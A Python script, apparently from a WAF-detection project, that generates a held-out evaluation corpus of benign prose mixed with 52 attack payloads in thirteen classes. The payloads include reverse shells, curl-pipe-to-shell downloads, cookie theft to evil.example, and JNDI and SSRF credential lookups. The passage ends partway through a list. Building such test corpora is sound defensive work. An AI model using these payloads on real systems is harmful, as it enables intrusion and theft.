"""A fourth, held-out corpus for `make eval-detection`, written without
reading the rules, the detectors, the documentation or the reports of
earlier runs, nor the payloads and texts of the other corpora: its first
run measures how the detection generalises to text its authors never saw.

Its weight is on benign traffic: about 490 requests, one per written text,
of 24 kinds (the `placement`), mostly prose of the kind that trips WAFs:
support tickets, forum questions, blog comments, changelogs, commit
messages, docs feedback, wiki edits and chat that mention SQL, shell,
paths, HTML, template and lookup syntax in words or inline Markdown code;
searches made of SQL- and shell-like English words; names and addresses
with apostrophes and hyphens; contact messages in 29 other languages
(Arabic, Hebrew, Persian, Chinese, Japanese, Korean, Thai and Hindi among
them); reviews, recipes, legal text and poems; free text in cookies, in
custom headers, in the Referer's search query and in path slugs. Fewer than 15 % are code-ish (JSON API bodies, GraphQL, config
snippets, Markdown with fenced code, code in a `code` field). They are sent
as search GETs, urlencoded and multipart forms, JSON bodies, cookies and
headers, with generate.py's browser and API headers.

It also holds 52 attack payloads, 4 for each of the 13 classes, varied in
technique and evasion, each in query, path, form, JSON, header, cookie and
User-Agent, plain, URL-encoded and base64 (generate.py's placements and
encodings, as in second_corpus.py and third_corpus.py): 1,092 requests.

Every payload and text was written for this project. Tokens, ids, cookies
and boundaries are generated from a fixed seed; the output is deterministic.

Usage: fourth_corpus.py OUT_FILE
"""
import sys
import urllib.parse
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import generate as g  # noqa: E402

SEED = 41
PLACEMENTS = ["query", "path", "form", "json", "header", "cookie", "user_agent"]
ENCODINGS = ["plain", "url", "base64"]

# ---------------------------------------------------------------- attacks
#
# Four per class.

ATTACKS = {
    "sqli": [
        "-7' UNION ALL SELECT NULL,CONCAT_WS(0x7c,email,pass_hash),NULL FROM customers WHERE 'a'='a",
        "1 AND 1=CONVERT(int,(SELECT TOP 1 password_hash FROM dbo.Users WHERE role='admin'))--",
        "x' AND extractvalue(rand(),concat(0x7e,(select substring(token,1,30) from api_keys limit 0,1)))-- ",
        "1;COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.9/x|sh'--",
    ],
    "xss": [
        "\"><svg/onload=self['al'+'ert'](document.domain)>",
        "<img src=x onerror=\"fetch('https://collect.evil.example/?c='+btoa(document.cookie))\">",
        "<a href=\"jAvAsCrIpT&colon;import('//evil.example/x.js')\">Verify your account</a>",
        "<iframe srcdoc=\"&lt;script&gt;parent.location='//evil.example/?'+parent.document.cookie&lt;/script&gt;\">"
        "</iframe>",
    ],
    "path_traversal": [
        "../../../../../../etc/passwd%00.jpg",
        "..;/..;/..;/WEB-INF/web.xml",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/group",
        "..././..././..././..././opt/app/config/database.yml",
    ],
    "cmdi": [
        "$(curl -fsSL http://198.51.100.23/i.sh|bash)",
        "`wget -qO- 198.51.100.23/k|sh`",
        "127.0.0.1\nid;uname -a",
        "a;${IFS}nc${IFS}-e${IFS}/bin/sh${IFS}198.51.100.23${IFS}4444",
    ],
    "ldap": [
        "*)(uid=*))(|(uid=*",
        "jsmith)(|(userPassword=a*)",
        "*)(sAMAccountName=*))(&(objectClass=user",
        "x)(|(description=*pass*)(info=*pwd*)",
    ],
    "crlf": [
        "en\r\nSet-Cookie: sid=attacker-fixed-0001; Domain=.shop.example; Path=/",
        "/home\r\nLocation: https://evil.example/login\r\n\r\n",
        "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
        "%E5%98%8A%E5%98%8DX-Forwarded-Host:%20evil.example",
    ],
    "ssi": [
        "<!--#exec cmd=\"id;uname -a\" -->",
        "<!--#include virtual=\"/../../../etc/shadow\" -->",
        "<!--#echo var=\"DOCUMENT_ROOT\" --><!--#printenv -->",
        "<esi:include src=\"http://evil.example/esi-fragment.xml\"/>",
    ],
    "ssti": [
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "{{['cat /etc/passwd']|filter('system')}}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"whoami\")}",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    ],
    "nosql": [
        "{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}",
        "{\"$where\":\"this.password.match(/^a/) && sleep(2000)\"}",
        "username[$regex]=^adm&password[$exists]=true",
        "'; return db.users.find(); var x='",
    ],
    "xxe": [
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;</r>",
        "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY % ext SYSTEM \"http://evil.example/oob.dtd\"> %ext; %send;]><d/>",
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/html/config.php\">]>"
        "<foo>&xxe;</foo>",
        "<data xmlns:xi=\"http://www.w3.org/2001/XInclude\">"
        "<xi:include parse=\"text\" href=\"file:///etc/passwd\"/></data>",
    ],
    "jndi": [
        "${jndi:ldap://198.51.100.77:1389/Exploit}",
        "${${lower:j}ndi:${lower:r}mi://evil.example/o}",
        "${${::-j}${::-n}${::-d}${::-i}:dns://${env:HOSTNAME}.x.evil.example}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/z}",
    ],
    "php": [
        "<?php system($_GET['c']); ?>",
        "php://filter/read=convert.base64-encode/resource=index.php",
        "data://text/plain;base64,PD9waHAgZWNobyBzaGVsbF9leGVjKCRfR0VUWydxJ10pOyA/Pg==",
        "O:9:\"LogWriter\":2:{s:4:\"path\";s:25:\"/var/www/html/cache/x.php\";"
        "s:4:\"data\";s:28:\"<?=system($_REQUEST[\"x\"]);?>\";}",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "gopher://127.0.0.1:6379/_FLUSHALL%0D%0ASET%20k%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22%0D%0A",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://evil.example@127.0.0.1:2375/containers/json",
    ],
}

# ---------------------------------------------------------------- vocabularies for the fields around the texts

NAMES = ["Aoife Ní Dhomhnaill", "Tomás O'Rourke", "Priya Raman-Hughes", "Lukas Schäfer", "Chloé Dubois-Martin",
         "Kwame Mensah", "Ingrid Solberg", "Mateo García López", "Yuki Tanaka", "Oluwaseun Adeyemi", "Zara D'Souza",
         "Fergus MacLeod", "Hanna Wiśniewska", "Dmitri Volkov", "Leïla Benali", "Grace O'Connor-Burke", "Rafael Souza",
         "Emily St. Clair", "Noor Haddad", "Björn Eriksson"]
EMAILS = ["aoife.nd@example.ie", "t.orourke+shop@example.com", "priya.rh@example.co.uk", "lukas@example.de",
          "chloe.dm@example.fr", "kwame.m@example.gh", "ingrid.s@example.no", "mateo_gl@example.es",
          "y.tanaka@example.jp", "seun.adeyemi@example.ng", "zara.dsouza@example.in", "fergus@example.scot",
          "h.wisniewska@example.pl", "dvolkov@example.org", "leila.b@example.ma", "grace.ocb@example.net",
          "rafa.souza@example.com.br", "emily.stclair@example.ca", "noor.h@example.jo", "bjorn.e@example.se"]

# ---------------------------------------------------------------- benign texts

# Short searches: SQL- and shell-like English words, operators, punctuation.
SEARCHES = [
    "select committee report", "union jack bunting", "order by date", "drop shipping suppliers uk",
    "cat food grain free", "exec summary template", "alert sounds iphone", "script font wedding invitations",
    "table and 4 chairs", "insert moulding kitchen doors", "delete account", "update router firmware",
    "null and void meaning", "ping pong table outdoor", "curl cream for men", "echo dot 5th gen",
    "kill bill poster", "sleep mask silk", "grep meaning", "java coffee beans 1kg", "c++ primer 5th edition",
    "c# in depth", "what does rm -rf do", "bash birthday party ideas", "shell necklace", "drop earrings gold",
    "admin assistant jobs", "root vegetable soup", "system of a down t-shirt", "wget vs curl", "<3 emoji meaning",
    "50% off sofas", "kids' wellies size 10", "men's 32\" waist jeans", "o'neill wetsuit 4/3",
    "rock 'n' roll vinyl", "fish & chips near me", "AT&T iphone deal", "Q&A session template",
    "1/2 inch drill bit", "a < b maths worksheet", "x^2 + y^2 = r^2", "café au lait mug", "naïve art prints",
    "iphone 15 case -pink", "\"select all that apply\" survey", "jeans OR chinos", "union station lockers",
    "select all shortcut mac", "lamp with on/off switch", "insert coin arcade machine", "where clause sql tutorial",
    "sleep number bed", "benchmark ssd 2tb", "script supervisor course", "join us careers", "from dusk till dawn dvd",
    "having a baby checklist", "group by colour", "like new iphone 13", "char grill pan", "cast iron skillet 12\"",
    "order #10442 status", "between the lines book", "onload meaning", "href lang tag seo",
]

# Developer-forum questions: (tag, title, body).
FORUM = [
    ("postgres", "UNION vs UNION ALL – which is faster?",
     "I have two SELECT statements over the same orders table and I'm combining them with `UNION`. A colleague "
     "says `UNION ALL` is always faster because it skips the de-duplication step. Is that still true on "
     "Postgres 16, or is the planner clever enough? Both halves already filter on `status = 'shipped'` vs "
     "`status = 'returned'`, so the rows can't overlap anyway."),
    ("mysql", "Accidentally dropped a table – any way back?",
     "Yesterday I ran DROP TABLE on what I thought was the staging copy of customer_notes... it wasn't. We have "
     "nightly dumps from mysqldump but nothing since 02:00. Binary logging is on. Can I replay the binlog up to "
     "just before the drop? Do I need --stop-datetime or --stop-position, and how do I find the position?"),
    ("bash", "Why does `make && ./run.sh || echo failed` print 'failed' when make succeeds?",
     "The build passes, run.sh starts, exits with 3 because of a missing env var, and then I see 'failed'. I "
     "assumed `||` only applied to make. Do I need braces or an if/else here?"),
    ("linux", "Editing /etc/hosts doesn't take effect in Chrome",
     "I added `127.0.0.1 api.local` to /etc/hosts. `ping api.local` resolves correctly but Chrome still goes to "
     "the old IP. Ubuntu 24.04, systemd-resolved. Is there a cache I need to flush, or is Chrome using its own "
     "DNS-over-HTTPS?"),
    ("windows", "Installer fails under a long C:\\Users\\ path",
     "Our installer writes to C:\\Users\\<name>\\AppData\\Local\\Packages\\... and fails with error 0x800700CE "
     "when the account name is long. Is setting LongPathsEnabled in the registry the only fix, or can we use "
     "the \\\\?\\ prefix from .NET 8?"),
    ("html", "onclick fires twice on my <button>",
     "I've got a `<button onclick=\"save()\">` inside a `<form>` and save() runs twice per click. Adding "
     "type=\"button\" fixed it, but I'd like to understand why - is the default type really \"submit\"?"),
    ("javascript", "How do I escape a closing script tag inside inlined JSON?",
     "We inline initial state into the page in a script element, and a product description containing the "
     "literal text </script> broke the whole page. What's the recommended escaping - replace every `<` with "
     "`\\u003c`? Does JSON.stringify ever do this on its own?"),
    ("shell", "rm -rf with a variable that might be empty",
     "Our cleanup step does `rm -rf \"$BUILD_DIR\"/*` and I'm terrified of the day BUILD_DIR is unset. Is "
     "`${BUILD_DIR:?}` the idiomatic guard? Would `set -u` catch it too, or does it not apply inside quotes?"),
    ("excel", "Formula returns #VALUE! when a cell is blank",
     "=IF(A2=\"\",\"\",B2*(1+C2)) works for most rows, but anything with a blank in column C gives #VALUE!. "
     "Prices look like £1,299.00 and the discount column is 12.5%, 20%, etc. Is the % sign stored as text?"),
    ("git", "Undo a commit but keep the changes",
     "I committed to main by mistake (`git commit -am \"wip\"`) and haven't pushed yet. Is "
     "`git reset --soft HEAD~1` what I want? I really don't want to lose the working tree."),
    ("sql", "Select only the latest row per customer",
     "Table payments(customer_id, paid_at, amount). I need each customer's most recent payment. GROUP BY "
     "customer_id with MAX(paid_at) gives me the date but then amount is from some other row. Is "
     "ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY paid_at DESC) the way, or DISTINCT ON?"),
    ("css", "Select the last visible <li>",
     "`li:last-child` picks the hidden one when the last item has `display: none`. Is there a selector for "
     "\"last item that isn't hidden\", or do I have to add a class from JS?"),
    ("security", "JWT in localStorage vs httpOnly cookie in 2026?",
     "Everyone says anything in localStorage is readable by any script on the page, so one XSS bug and the "
     "token is gone. But with an httpOnly cookie I need CSRF protection again. Which trade-off do people "
     "actually make for a plain SPA + REST API?"),
    ("nginx", "try_files and a trailing slash return 403",
     "`location / { try_files $uri $uri/ /index.html; }` serves the SPA fine, but /docs/ gives 403 because "
     "there's a docs directory without an index file. Should I drop `$uri/` or add `autoindex off`?"),
    ("docker", "Bind mount shows an empty directory on macOS",
     "`docker run --rm -v ~/projects/app:/usr/src/app node:22 ls /usr/src/app` prints nothing. The folder "
     "definitely has files. Docker Desktop 4.30. Is ~ expanded by my shell or by Docker?"),
    ("python", "Literal braces in an f-string",
     "How do I print a literal { in an f-string? f\"{{name}}\" gives {name}, which is what I want, but then "
     "f\"{{{name}}}\" gives {Alice} and I don't understand why three braces work."),
    ("regex", "Match prices like $1,299.99 but not bare numbers",
     "I want to match $5, $5.50, $1,299.99 but not 1299 or 5.5. My attempt `\\$\\d{1,3}(,\\d{3})*(\\.\\d{2})?` "
     "also matches the \"$1,2\" part of \"$1,2345\". Do I need a lookahead at the end?"),
    ("powershell", "Get-ChildItem -Recurse skips hidden files",
     "Running Get-ChildItem -Path C:\\Projects -Recurse -Filter *.log misses logs under .cache folders. Is "
     "-Force the answer, and does it also follow junctions?"),
    ("accessibility", "Is <div role=\"button\"> ever OK?",
     "A designer handed over markup with clickable divs everywhere. I know a real <button> gets keyboard "
     "support for free, but if I add tabindex=\"0\" and handle Enter and Space, is a screen reader user any "
     "worse off?"),
    ("sqlite", "Why does WHERE name = NULL return nothing?",
     "In SQLite, `SELECT * FROM contacts WHERE phone = NULL` returns zero rows even though half of them have "
     "no phone. `IS NULL` works. Why is = NULL not an error if it can never be true?"),
    ("cron", "Backup runs twice when the clocks change",
     "Our crontab has `30 1 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1` and on the last "
     "Sunday of October it ran twice. Should the server just be on UTC?"),
    ("ssh", "Permission denied (publickey) after copying ~/.ssh to a new laptop",
     "I copied the whole ~/.ssh folder from my old machine. Keys are there, but ssh says permission denied. "
     "Someone said to chmod 700 ~/.ssh and 600 the private key. Why does ssh care about the mode?"),
    ("math", "Solving x = 2*(y+3) for y",
     "My kid's homework: given x = 2*(y+3), find y when x = 14. I get y = x/2 - 3 = 4. The answer sheet says "
     "4 too, but it writes the constraint as 0 < y < 10 > x/3 which I've never seen. Is a < b > c even valid "
     "notation?"),
    ("vim", "How do I stop vim from adding a newline at the end?",
     "`:set nofixendofline` seems to work but only for the current buffer. Where does this go - ~/.vimrc or "
     "~/.config/nvim/init.vim? I use both vim 9 and neovim."),
    ("react", "dangerouslySetInnerHTML for user bios?",
     "Users can write a short bio with bold and links. Right now we render it with dangerouslySetInnerHTML "
     "after running it through a sanitiser. Is that enough, or should we convert to Markdown and render "
     "elements ourselves so no raw HTML ever reaches the DOM?"),
    ("networking", "Port 8080 already in use after a crash",
     "After the dev server crashed I get EADDRINUSE on 8080. `lsof -i :8080` shows a node process; "
     "`kill -9 <pid>` fixes it, but is there a way to make the server release the port on crash?"),
    ("forms", "Exporting 'select all that apply' answers",
     "Our survey has a \"select all that apply\" question and the export puts every answer in one cell like "
     "\"Red; Blue; Other: teal\". What's the cleanest way to split it into columns in Sheets when the 'Other' "
     "text can itself contain a semicolon?"),
    ("php", "include vs require when the file is missing",
     "If a config file is missing, `include` gives a warning and carries on, `require` is fatal. Is there any "
     "reason to use include_once for config at all, or should it always be require_once?"),
    ("latex", "Escaping % and & inside a tabular",
     "My table has a column \"Growth (%)\" and company names like \"Smith & Sons\". Both break the table. I "
     "know about \\% and \\&, but is there a package that lets me paste raw text?"),
    ("kubernetes", "kubectl exec into a pod that has no bash",
     "`kubectl exec -it web-7d9c -- bash` fails with 'executable file not found'. `-- /bin/sh` works. Is there a "
     "way to get a shell in a distroless image at all, or is `kubectl debug` the only option?"),
    ("email", "Subject shows =?UTF-8?Q?...?= in some clients",
     "Our order confirmation subject 'Your order – thank you!' shows as =?UTF-8?Q?Your_order_=E2=80=93...?= in "
     "an old Outlook. Is the en dash the problem? Should we just use a plain hyphen?"),
    ("mongodb", "Find documents where a field doesn't exist",
     "I need all users who were never soft-deleted, i.e. no deletedAt field at all. Is an $exists filter set to "
     "false fast if deletedAt is indexed, or should I store deletedAt: null explicitly?"),
    ("logging", "Log4j2 lookup in fileName not resolved",
     "In log4j2.xml I set fileName=\"${sys:user.home}/logs/app.log\" and it creates a folder literally named "
     "${sys:user.home} in the working directory. Running as a systemd service - is user.home empty there?"),
    ("templates", "Jinja and Vue both use double curly braces",
     "We render pages server-side with Jinja2 and mount Vue on part of the page. Vue's {{ message }} gets "
     "eaten by Jinja. Is wrapping the block in raw/endraw the usual fix, or changing Vue's delimiters?"),
    ("xml", "Parser complains about &nbsp; in my feed",
     "Our RSS feed has &nbsp; in descriptions and the validator says \"undefined entity\". I read that XML only "
     "predefines five entities. Should I use &#160; or declare it in a DOCTYPE?"),
    ("apache", "Server-side includes show up as comments",
     "We migrated an old site and the footer include just appears as a comment in the page source. I think "
     "mod_include isn't enabled - is it `a2enmod include` plus `Options +Includes` in the vhost?"),
    ("java", "Runtime.exec with arguments containing spaces",
     "I'm calling an external converter with Runtime.getRuntime().exec(\"convert \" + path) and it breaks on "
     "paths like /srv/uploads/My Photos/img 1.png. Should I switch to ProcessBuilder with a list of args?"),
    ("ldap", "Search filter for users in two groups",
     "I need users who are in both Sales and EMEA. I tried two memberOf conditions inside an AND filter but "
     "get zero results. Do the CN values need escaping if the group name has a comma, like \"Sales, EMEA\"?"),
    ("http", "Is a semicolon allowed in a URL path?",
     "Our CDN rewrites /products/shoes;size=9 to /products/shoes. Is the ;param part of the path "
     "(matrix params) or something the CDN may strip? RFC 3986 seems to allow it."),
    ("typescript", "Type for an object with ${string}_id keys",
     "I want a type where every key ends in _id, like user_id, order_id. Is Record<`${string}_id`, number> "
     "valid TypeScript? It compiles, but autocomplete is weird."),
    ("performance", "Why is SELECT COUNT(*) so slow on our big table?",
     "Counting 80M rows takes ~40 s on Postgres. We only need an approximate number for the dashboard "
     "(\"about 80 million orders\"). Is reading reltuples from pg_class acceptable?"),
    ("ruby", "ERB tag prints nothing",
     "In a Rails view `<% @items.each do |i| %>` followed by `<% i.name %>` renders nothing. Changing it to "
     "`<%= i.name %>` works. Is that the whole difference, = means output?"),
]

# Support tickets: (subject, description).
TICKETS = [
    ("Can't save address", "Hi, I tried to update my address but the form says 'invalid character' because my street "
     "is O'Connell St. Can you fix it? Order #88213."),
    ("Password with < and >", "Your app crashed when I pasted my password, which has a < and a > in it. Had to "
     "reset it twice today :("),
    ("CSV export drops leading zeros", "Export to CSV drops the leading zero on our SKUs (00451 becomes 451). Is "
     "there a setting, or should we prefix them with an apostrophe like '00451?"),
    ("'Select all' only selects 50", "Since the 4.2 update the 'Select all' checkbox on the invoices page selects "
     "only the first 50 rows. Firefox 128 on Windows 11."),
    ("400 on titles with &", "Our integration gets HTTP 400 when the product title contains an ampersand, e.g. "
     "\"Salt & Pepper Grinder Set\". We send JSON, so it shouldn't need escaping?"),
    ("Charged twice", "I was charged twice: £49.99 on 03/02 and again £49.99 on 04/02. Card ending 4417. Please "
     "refund one – thanks!"),
    ("Wrong house", "The driver left the parcel at no. 14 instead of 14A. Name on the order: Siobhán Ní Bhriain. "
     "Neighbours are away till Sunday."),
    ("Blank page after unsubscribe", "The unsubscribe link goes to /account/email-preferences?token=... and shows "
     "a blank white page. Tried Safari and Chrome, same thing."),
    ("Delete my data", "Please delete my account and all associated data under GDPR Art. 17. Username: "
     "k.de-la-cruz. I no longer need a confirmation email."),
    ("SSO login broken", "Our admin can't log in after yesterday's SSO change - the error says 'user not found in "
     "directory'. It worked fine on Monday. Any ideas?"),
    ("Importer: unexpected quote", "The CSV importer fails on row 212 with 'unexpected quote'. The cell is: "
     "12\" ruler, wood. How should we write inch marks?"),
    ("Report error near \"order\"", "Clicking 'Run report' shows: ERROR: syntax error at or near \"order\". One of "
     "my custom fields is called Order - is that a reserved-word problem on your side?"),
    ("Notes field loses text", "When I type 'drop-off round the back' in the delivery notes, the page reloads and "
     "my text is gone. Is it the hyphen?"),
    ("Dark mode?", "Could you add a dark mode please? My eyes at 2am… :-) Otherwise love the app."),
    ("Template shows {{first_name}}", "The email preview shows {{first_name}} instead of my customer's name. Did "
     "the merge-field syntax change? It used to be *|FNAME|*."),
    ("VAT miscalculated", "Invoice INV-2026-0113 says VAT 20% but the total is calculated at 2%: 100 + 2 = 102 "
     "instead of 120. Please correct and re-issue."),
    ("415 from API", "Our shell script calls your API with curl -X POST -d @order.json and gets 415. Do we need "
     "-H 'Content-Type: application/json'? The docs example doesn't show it."),
    ("Reset email not arriving", "Locked out after 5 attempts; the reset email never arrives at "
     "j.o'neill@example.ie - maybe the apostrophe breaks it? Spam folder is empty."),
    ("Labels cut off", "The shipping label is cut off at the bottom. 4x6\" labels on a Zebra GK420d, driver "
     "v5.1.17, Chrome's print dialog set to 100% scale."),
    ("Store search", "Searching stores for 'union square' returns nothing, but you have 3 shops there according "
     "to your website."),
    ("Shift-click", "Feature request: let us select multiple rows with Shift+click like in Finder / Explorer. "
     "Selecting 200 orders one by one is painful."),
    ("Wrong currency", "Prices show in $ even though I'm in Dublin and chose EUR (€) in settings. Cleared cookies, "
     "no change."),
    ("Discount code", "Code SPRING-15 says 'not valid for this order' but the T&Cs say 15% off everything over "
     "£30 and my basket is £42.50."),
    ("Webhook retries", "Your webhook retried the same event 14 times in 10 minutes even though our endpoint "
     "returned 200 OK; we now have duplicate orders. Event id evt_1QxT..."),
    ("Timezone in exports", "Timestamps in the export are UTC but the UI shows local time (UTC+10). Could the "
     "export say which zone it uses, e.g. 2026-03-01T09:00:00+10:00?"),
    ("Bulk delete", "Is there a way to delete all draft products at once? I have ~1,400 from a failed import and "
     "the UI only lets me delete 25 at a time."),
    ("Upload fails on Windows path", "Uploading from C:\\Users\\Maria\\Documents\\Invoices\\März 2026.pdf fails with "
     "'file name not allowed'. Renaming to Maerz works. Umlauts?"),
    ("Two-factor codes", "The authenticator codes are rejected every time. My phone clock is set to automatic. "
     "Backup codes also say 'invalid'."),
    ("Gift message cut", "My gift message was cut off after the semicolon: \"Happy 40th; love from all of us\" "
     "printed as \"Happy 40th\"."),
    ("Cancel order", "Please cancel order #55102 - I ordered the wrong size (UK 8 instead of 6). If it has shipped "
     "I'll return it."),
    ("Script error on checkout", "At checkout the console says \"Uncaught TypeError: cannot read properties of "
     "undefined (reading 'total')\" and the Pay button stays grey."),
    ("Invoices for accountant", "Can my accountant get read-only access to invoices without seeing the rest of "
     "the admin? She only needs Jan–Dec 2025."),
]

# Blog comments.
COMMENTS = [
    "Great write-up! One nit: in step 3 you suggest `chmod 777` - please don't, 755 for directories and 644 for "
    "files is plenty 😉",
    "This finally made UNION vs JOIN click for me. Thank you!!",
    "Tried the recipe – 200°C was too hot for my fan oven, 180°C worked. Kids loved it <3",
    "Anyone else getting 'command not found' after the brew install? I had to add /opt/homebrew/bin to PATH in "
    "~/.zshrc and open a new terminal.",
    "I'd push back on the \"script kiddies\" framing - most incidents I've worked were boring misconfigurations, "
    "not clever attackers.",
    "Typo in paragraph 2: \"it's\" → \"its\". Otherwise spot on.",
    "lol the bit about `rm -rf node_modules && npm install` being the universal fix is painfully true",
    "Re: the comment above - no, <br> doesn't need a closing tag in HTML5; <br/> is just tolerated.",
    "Is there a version of this for Windows? My paths look like D:\\Projects\\site\\public and nothing from the "
    "guide works as written.",
    "The chart in section 4 says 120% - shouldn't that be 12%?",
    "Bookmarked. Sharing this with our intern who asked me yesterday why `SELECT *` in production code is frowned "
    "upon.",
    "Loved this. Small suggestion: mention that `&&` stops at the first failure whereas `;` just carries on.",
    "We had exactly this outage last year (someone ran the drop script against prod instead of test). Backups "
    "saved us, but only because we'd actually tested restoring them.",
    "Minor thing: the link to part 2 goes to /blog/part-2 which 404s; it should be /blog/2026/04/part-2/ I think.",
    "Honestly the best explanation of \"escape on output, not on input\" I've read. Bravo 👏👏",
    "Can you do one on cron syntax next? I still have to look up whether */15 means every 15 minutes every time.",
    "My grandmother made these with lard instead of butter - 1:1 swap, flakier result. Just saying ;)",
    "Counterpoint: sometimes a <table> really is the right element for layout-ish data. Not everything has to be "
    "flexbox.",
    "The command in the last box has a smart quote in it (’ instead of ') so it fails when pasted into a terminal.",
    "Thanks Dana! Used this to set up our team's ~/.gitconfig aliases, `git lg` is a life saver.",
    "If x = 3 and y = x * 2 + 1 then y is 7, not 8 like the example says - or am I missing something? :-/",
    "Would love a follow-up on alerting: which alerts actually woke you up at night vs. which were noise.",
    "As someone whose surname is O'Donnell-Fitzgerald: thank you for writing about input validation that doesn't "
    "hate apostrophes and hyphens.",
    "Fantastic photos. The one of the harbour at 6 a.m. is wallpaper-worthy.",
    "For anyone on fish: it's `set -x PATH $HOME/bin $PATH`, not export.",
    "Agree with everything except point 5 - tabs > spaces, fight me 😄",
]

# Release notes, as an admin posts them to a releases API: (version, notes).
CHANGELOGS = [
    ("3.8.0", "Added: bulk select & delete for saved carts.\nFixed: searches containing `&` or `+` returned no "
     "results.\nChanged: minimum Node version is now 20."),
    ("2.14.1", "* fix: `--dry-run` no longer deletes temporary files\n* fix: paths with spaces on Windows "
     "(C:\\Program Files\\...) are now quoted\n* docs: clarify that ORDER BY in custom reports applies after "
     "grouping"),
    ("5.0.0", "BREAKING: the `where` parameter of /v1/search is renamed `filter`; the old name is accepted until "
     "2026-09-30.\nBREAKING: dropped support for Internet Explorer 11.\nNew: union of tag filters (\"red OR "
     "blue\") in the product grid."),
    ("1.9.3", "Security: user display names are now HTML-escaped in notification e-mails (previously a name "
     "like <b>Sam</b> rendered bold).\nFixed: the \"Select all\" checkbox ignored filtered rows."),
    ("4.2.0", "- Export now includes a `created_at` column (ISO 8601, UTC)\n- Import accepts ; as a delimiter "
     "(common in DE/FR Excel)\n- Performance: the orders list query no longer does a full table scan when "
     "sorting by date (~12x faster)"),
    ("0.12.0", "Initial support for templates: {{ customer.first_name }} and {{ order.number }} can be used in "
     "email subjects. Unknown variables render as empty strings."),
    ("2026.03", "Updated dependencies (log4j-core 2.24.3, jackson 2.18). Removed the deprecated /admin/exec "
     "endpoint - use the jobs API instead."),
    ("7.1.2", "Fixed a crash when a product name contained an emoji followed by a combining character (e.g. "
     "\"👍🏽 Deal\"). Fixed 'Back' link on the 404 page."),
    ("3.3.0", "CLI: new `shop orders delete --older-than 90d` command (asks for confirmation unless --yes).\nCLI: "
     "`shop export > orders.csv` now writes UTF-8 with BOM for Excel."),
    ("1.0.0-rc.2", "Renamed config key `db.select_timeout` → `db.query_timeout`.\nThe installer no longer edits "
     "/etc/hosts; add `127.0.0.1 shop.local` yourself if you want it."),
    ("6.4.0", "Checkout: customers can now choose drop-off at a parcel locker.\nAdmin: order notes support "
     "**bold**, _italic_ and `inline code`."),
    ("2.0.1", "Hotfix: the nightly cleanup job (`0 3 * * *`) deleted sessions younger than 24 h because of a "
     "timezone bug. Sessions are now compared in UTC."),
    ("9.0.0", "We've rewritten the search backend. Queries like `shoes -sandals \"size 9\"` now behave like a web "
     "search engine: minus excludes, quotes match a phrase."),
    ("4.0.3", "Fixed the script that generates sitemaps skipping URLs with apostrophes (/authors/o'hara)."),
    ("1.4.0", "New setting: `ALLOWED_HOSTS=shop.example,www.shop.example`. Requests with any other Host header "
     "now get 400."),
    ("8.2.0", "Reports: you can now group by week, sort by any column (asc/desc) and limit to the top 10, 50 or "
     "100 rows. Percentages are rounded to 1 d.p."),
]

# Commit messages, as a Git host's push webhook delivers them to CI.
COMMITS = [
    "Escape </script> in inlined JSON state\n\nProduct descriptions containing the literal text </script> closed "
    "the inline script element early. Serialise with \\u003c instead.\n\nFixes #1432",
    "Revert \"Drop legacy_orders table\"\n\nThis reverts commit 3f9a1c2. Finance still reads from it for the Q4 "
    "close.",
    "build: use `set -euo pipefail` in deploy.sh",
    "Handle O'Brien-style surnames in the address normaliser",
    "sql: add index on (customer_id, created_at DESC) for the latest-order lookup",
    "Remove `rm -rf $TMPDIR/*` from the test teardown\n\nOn macOS TMPDIR is per-user and shared with other "
    "processes; tests now use their own tempfile.mkdtemp().",
    "fix(search): treat \"OR\" and \"AND\" as words unless upper-case and between terms",
    "docs: explain why we never build SQL with string concatenation",
    "chore: bump lodash from 4.17.20 to 4.17.21",
    "Make the onload handler idempotent\n\nSafari fires pageshow/onload again when restoring from bfcache, which "
    "registered the analytics listener twice.",
    "WIP: select/union refactor of the reporting query builder (do not merge)",
    "Fix off-by-one in pagination (page=0 returned the same rows as page=1)",
    "ci: run `cargo test -- --test-threads=1` on Windows runners only",
    "Stop logging full request bodies at DEBUG\n\nThey can contain customers' addresses and phone numbers.",
    "Merge branch 'feature/drop-shipping' into main",
    "Use C:\\ProgramData\\Shop\\logs instead of %APPDATA% for the service account",
]

# Feedback on documentation pages: (page, helpful, text).
DOCS_FEEDBACK = [
    ("/docs/api/pagination", "no", "The example uses ?page=2&per_page=50 but the response section mentions "
     "cursor-based Link headers. Which one is current?"),
    ("/docs/getting-started", "yes", "Clear and short. The `curl ... | jq .` example was exactly what I needed."),
    ("/docs/reports/custom-sql", "no", "Please list which SQL functions are allowed in custom reports. I tried "
     "DATE_TRUNC and got 'function not permitted', but COUNT and SUM work."),
    ("/docs/cli/install", "no", "On Windows the install path is C:\\Program Files\\ShopCLI\\bin, not "
     "C:\\ShopCLI\\bin as the page says."),
    ("/docs/webhooks/signatures", "yes", "The Python verification snippet works, thanks. Maybe add a Node one?"),
    ("/docs/themes/liquid", "no", "The page says {{ product.title | escape }} but the screenshot shows "
     "{{ product.title }} without the filter. Which is recommended?"),
    ("/docs/import/csv", "no", "It's not clear whether the delimiter is , or ; for EU locales, or whether quotes "
     "inside fields should be doubled (\"\") or backslash-escaped."),
